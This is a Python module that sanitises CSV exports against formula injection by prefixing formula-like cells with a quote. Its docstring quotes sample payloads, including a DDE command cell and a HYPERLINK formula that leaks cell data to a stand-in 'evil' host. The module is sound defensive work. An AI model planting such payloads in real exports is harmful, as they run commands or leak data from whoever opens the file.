"""CSV we write, safe to open in a spreadsheet: every CSV writer of the codebase goes through here.

A cell beginning with `=`, `+`, `-`, `@`, a tab or a carriage return (or a line feed, or the
full-width `＝＋－＠`, which some spreadsheets also take) is read by Excel, LibreOffice and Google
Sheets as a formula: a lead named `=cmd|' /C calc'!A0` or `=HYPERLINK("http://evil/?"&A1)` would
run or leak data on the desk of whoever opens the export (CSV or formula injection). Such cells
are prefixed with a single quote, as OWASP recommends: the spreadsheet shows the text as text.

One exception, chosen on purpose: a cell that is only a number (`-5`, `+14155550100`, `1.5e3`) is
written as it is. A spreadsheet reads it as a number, never a formula, and leads carry phone
numbers and scores that must round-trip through export and import unchanged. Anything else after
the sign (`-2+3`, `+1 415 555 0100`, `-A1`) is prefixed.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def neutralise(value: object) -> object:
    """The cell as a spreadsheet should see it: a formula-like string prefixed with `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer whose rows are neutralised cell by cell (same return values)."""

    def __init__(self, out: _Writable, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: _Writable, **options: Any) -> SafeWriter:
    """Use instead of csv.writer for every CSV a person may open."""
    return SafeWriter(out, **options)
